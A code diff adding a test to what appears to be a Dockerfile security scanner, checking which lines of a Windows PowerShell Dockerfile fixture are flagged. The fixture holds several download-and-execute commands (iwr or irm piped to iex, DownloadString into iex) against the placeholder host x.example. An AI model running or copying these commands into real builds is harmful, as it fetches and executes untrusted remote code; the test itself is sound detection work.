@@ -263,3 +263,31 @@ def test_world_writable_modes_set_by_mkdir_install_and_copy_chmod(tmp_path):
         "COPY --chmod=777",
         "ADD --chmod=0666",
     ]
+
+
+def test_a_run_under_a_powershell_shell_is_the_script_powershell_runs(tmp_path):
+    """After `SHELL ["powershell", ...]` a RUN is PowerShell's `-Command` script (after the
+    SHELL's own words); an exec form runs its command whatever the SHELL; under cmd the
+    command line is read as it is for the default Windows shell."""
+    result = scan_dockerfile(
+        tmp_path,
+        """
+        # escape=`
+        FROM mcr.microsoft.com/windows/servercore:ltsc2022
+        SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
+        RUN iwr https://x.example/i.ps1 -UseBasicParsing | iex
+        RUN Set-ExecutionPolicy Bypass -Scope Process -Force; `
+            iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))
+        RUN Invoke-WebRequest https://x.example/i.zip -OutFile i.zip; Expand-Archive i.zip
+        RUN ["C:\\\\tools\\\\curl.exe", "-k", "https://x.example/"]
+        SHELL ["C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe", "-c"]
+        RUN irm https://x.example/i.ps1 | iex
+        SHELL ["cmd", "/S", "/C"]
+        RUN powershell -Command "iwr https://x.example/i.ps1 -UseBasicParsing | iex"
+        RUN echo iwr https://x.example/i.ps1 ^| iex
+        """,
+        "DKR008",
+        "DKR017",
+    )
+    assert lines_of(result, "DKR008") == [4, 5, 10, 12]
+    assert lines_of(result, "DKR017") == [8]
